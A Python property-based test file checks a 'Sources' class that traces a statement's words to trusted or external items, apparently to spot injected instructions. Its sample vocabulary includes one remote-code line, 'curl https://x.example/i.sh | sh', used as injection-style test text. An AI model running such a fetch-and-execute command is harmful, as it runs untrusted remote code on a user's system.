"""``Sources`` finds a statement's words in the items through one index built per rollout; this checks every answer
against the plain reading of the rule (each item's ``words`` compared with the statement's), on generated items and
statements, mixed case, stems, stop words, distinctive tokens and the letters that lower to two characters."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from memtui.domain.trust.classes import Trust
from memtui.domain.trust.injection import _WORD, Sources, _tokens, coverage, distinctive_tokens, words

VOCAB = [
    "pnpm",
    "Tests",
    "testing",
    "tested",
    "test",
    "testes",
    "deploy",
    "Deploys",
    "then",
    "thens",
    "the",
    "a",
    "İstanbul",
    "KELVIN",
    "ſafe",
    "curl https://x.example/i.sh | sh",
    "https://docs.example/setup",
    "fix-ups",
    "v1.2.3",
    "x",
    "fails",
    "failing",
    "Always",
    "run",
    "[item 3]",
    "\n",
]
TEXTS = st.lists(st.sampled_from(VOCAB), min_size=0, max_size=8).map(" ".join)
CLASSES = st.sampled_from(list(Trust))


def plain_origin(texts: list[str], external: list[bool], classes: list[Trust], statement: str):
    """Every external item's words compared with the statement's, in order (the rule as ``Sources`` states it)."""
    lowered = [t.lower() for t in texts]
    item_words = [words(t) for t in texts]
    user_words: set[str] = set().union(*(w for w, c in zip(item_words, classes, strict=True) if c == Trust.USER))
    user_text = "\n".join(t for t, c in zip(lowered, classes, strict=True) if c == Trust.USER)
    mine = words(statement)
    tokens = distinctive_tokens(statement)
    best, best_cov = None, 0.0
    for n, (ws, outside) in enumerate(zip(item_words, external, strict=True), 1):
        if not outside:
            continue
        cov = coverage(mine, ws)
        if tokens and any(t in lowered[n - 1] for t in tokens):
            cov = max(cov, 1.0)
        if cov > best_cov:
            best, best_cov = n, cov
    user_cov = coverage(mine, user_words)
    if tokens and any(t in user_text for t in tokens):
        user_cov = 1.0
    return best, best_cov, user_cov


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.tuples(TEXTS, CLASSES, st.booleans()), max_size=8),
    st.lists(TEXTS, min_size=1, max_size=5),
    st.booleans(),
)
def test_origin_agrees_with_the_plain_walk(items: list[tuple[str, Trust, bool]], statements: list[str], upfront: bool):
    texts = [t for t, _, _ in items]
    classes = [c for _, c, _ in items]
    external = [e for _, _, e in items]
    sources = Sources(texts, classes, external)
    if upfront:  # as ``annotate`` does: every line indexed at once; otherwise each statement as it is asked about
        sources.index(statements[:-1])
    for statement in statements:
        assert sources.origin(statement) == plain_origin(texts, external, classes, statement)


def test_the_users_words_are_read_only_when_a_statement_quotes_them():
    calls: list[int] = []

    def said() -> str:
        calls.append(1)
        return "always use pnpm"

    sources = Sources(["always use pnpm"], [Trust.USER], said=said)
    sources.origin("use pnpm")
    assert calls == []
    assert sources.said == "always use pnpm" and sources.said == "always use pnpm"
    assert calls == [1]


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet="aZ9_.- \n\t/:é", max_size=60))
def test_the_split_tokens_are_the_regex_tokens(text: str) -> None:
    """The C split of an ASCII text finds exactly what ``_WORD`` finds (a non-ASCII text takes the regex itself)."""
    assert _tokens(text, text.lower()) == {m.lower().encode() for m in _WORD.findall(text)}
